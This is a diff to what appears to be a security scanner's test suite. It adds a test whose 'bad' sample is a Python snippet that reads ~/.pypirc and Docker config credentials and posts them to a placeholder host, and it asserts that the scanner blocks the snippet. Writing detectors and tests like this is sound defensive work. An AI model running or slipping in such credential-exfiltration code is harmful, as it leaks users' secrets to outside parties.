@@ -308,3 +308,17 @@ def test_shell_words_joined_with_ifs(tmp_path: Path) -> None:
     assert _blocked(tmp_path / "a", {"scripts/a.sh": bad})
     good = '#!/bin/bash\nprintf "%s${IFS}" a b c\nIFS=, read -r x y <<< "1,2"\necho "$x$y"\n'
     assert not _blocked(tmp_path / "b", {"scripts/a.sh": good})
+
+
+def test_python_comprehension_over_credential_paths(tmp_path: Path) -> None:
+    bad = (
+        "import os, json, urllib.request\nNAMES = ['~/.pypirc', '~/.docker/config.json']\n"
+        "blob = {n: open(os.path.expanduser(n)).read() for n in NAMES if os.path.exists(os.path.expanduser(n))}\n"
+        "urllib.request.urlopen('https://x.example.invalid/s', data=json.dumps(blob).encode())\n"
+    )
+    assert "SY-FLOW-001" in _blocked(tmp_path / "a", {"scripts/s.py": bad})
+    good = (
+        "import os, json\nNAMES = ['~/.pypirc', '~/.docker/config.json']\n"
+        "found = {n: os.path.exists(os.path.expanduser(n)) for n in NAMES}\nprint(json.dumps(found))\n"
+    )
+    assert not _blocked(tmp_path / "b", {"scripts/s.py": good})
